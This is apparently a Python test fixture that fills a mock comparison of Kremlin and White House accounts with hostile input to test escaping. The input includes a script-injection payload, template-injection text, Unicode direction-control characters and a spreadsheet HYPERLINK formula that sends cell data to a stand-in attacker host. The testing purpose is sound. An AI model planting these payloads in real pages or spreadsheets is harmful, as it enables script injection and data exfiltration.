"""A comparison in which every word that a person types would break a format that does not take care."""

from typing import Any

from comparisons.documents import load
from comparisons.models import Edition
from comparisons.publishing.publish import publish

SLUG = "hostile"
PAGE = f"/comparisons/{SLUG}/"
MARKUP = "</script><script>alert(1)</script><!-- <b>&amp; \"double\" 'single' ]]> %}{{ 7 }}"
SIGNS = "\u202eright to left\u202c \u200f\u2028line\u2029paragraph \U0001f525\U0001f1fa\U0001f1f3 \u0065\u0301 a,b;c\td"
WORDS = f"{MARKUP} {SIGNS}"
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"see")'
NOT_IN_XML = "\uffff\ufffe"
TEXT = f"{FORMULA}\n{WORDS}\n@SUM(1)\tthe end {NOT_IN_XML}."


def hostile_document() -> dict[str, Any]:
    """One claim, on which the Kremlin says these words and the White House is silent."""
    accounts = [
        {
            "id": party,
            "party": party,
            "title": f"@{party} {WORDS}",
            "kind": "readout",
            "source": WORDS,
            "attribution": "on_record",
            "completeness": "full",
            "scope": "comprehensive",
            "source_url": "https://example.org/?a=1&b=<2>" if party == "kremlin" else "",
            "revisions": [{"text": TEXT}],
        }
        for party in ("kremlin", "white-house")
    ]
    spoken = {
        "account": "kremlin",
        "position": "affirms",
        "basis": "own_text",
        "note": f"-1+{WORDS}",
        "quotes": [{"exact": FORMULA}, {"exact": WORDS}],
    }
    return {
        "format": "comparison/1",
        "event": {
            "slug": SLUG,
            "title": f"+1 {WORDS}",
            "kind": "phone_call",
            "date": "2017-01-28",
            "summary": WORDS,
            "participants": [WORDS],
            "place": WORDS[:100],
        },
        "parties": [
            {"slug": "kremlin", "name": f"=Kremlin {WORDS}"[:200], "country": ""},
            {"slug": "white-house", "name": "White House", "country": ""},
        ],
        "topics": [{"slug": "trade", "name": f"=Trade {WORDS}"[:200]}],
        "accounts": accounts,
        "claims": [
            {
                "slug": "said",
                "topic": "trade",
                "question": f"=1+1 {WORDS}",
                "wording": f"\uff1d2 {WORDS}",
                "kind": "polar",
                "note": WORDS,
                "stances": [spoken, {"account": "white-house", "position": "silent", "basis": "full_text"}],
            }
        ],
    }


def publish_hostile() -> Edition:
    """Published and corrected, with a note of the same kind."""
    event = load(hostile_document(), reader=WORDS[:100]).event
    publish(event, by="ann")
    return publish(event, note=f"={WORDS}", by="ann")
